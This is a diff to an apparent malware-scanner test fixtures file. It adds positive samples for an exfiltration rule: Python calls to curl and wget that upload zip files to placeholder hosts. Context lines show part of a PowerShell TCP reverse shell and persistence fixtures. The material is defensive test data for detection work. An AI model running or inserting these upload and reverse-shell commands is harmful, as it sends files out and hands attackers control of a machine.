@@ -331,6 +331,14 @@ PS_TCP_SHELL = (
     "{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);"
     "$sendback = (iex $data 2>&1 | Out-String )};$client.Close()\"')\n"
 )
+CURL_UPLOAD_ZIP = (
+    "import os\n\ndef send(zipname):\n"
+    "    command = 'curl -k -F \"file=@' + zipname + '\" \"https://192.0.2.1/api/v1/upload\"'\n"
+    "    os.system(command)\n"
+)
+CURL_DOWNLOAD = (
+    "import os\n\nos.system('curl -fsSL -o data.json https://api.example.invalid/data')\n"
+)
 SHORTCUT_EXTENSION = """\
 import os
 from win32com.client import Dispatch
@@ -507,6 +515,18 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
     "persistence-windows-autorun": RuleFixtures(
         positive=[python(RUN_KEY), python(SCHTASKS), python(STARTUP_FOLDER)],
         benign=[python(UNINSTALL_KEY)],
+    ),
+    "exfil-command-upload": RuleFixtures(
+        positive=[
+            python(CURL_UPLOAD_ZIP),
+            python(
+                "import os\nos.system('wget --post-file=/tmp/a.zip https://c.example.invalid/u')\n"
+            ),
+        ],
+        benign=[
+            python(CURL_DOWNLOAD),
+            python('API = "curl -d \'{\\"a\\": 1}\' https://api.example.invalid"\n'),
+        ],
     ),
     "persistence-browser-extension": RuleFixtures(
         positive=[setup_py(SHORTCUT_EXTENSION), python(SHORTCUT_EXTENSION)],
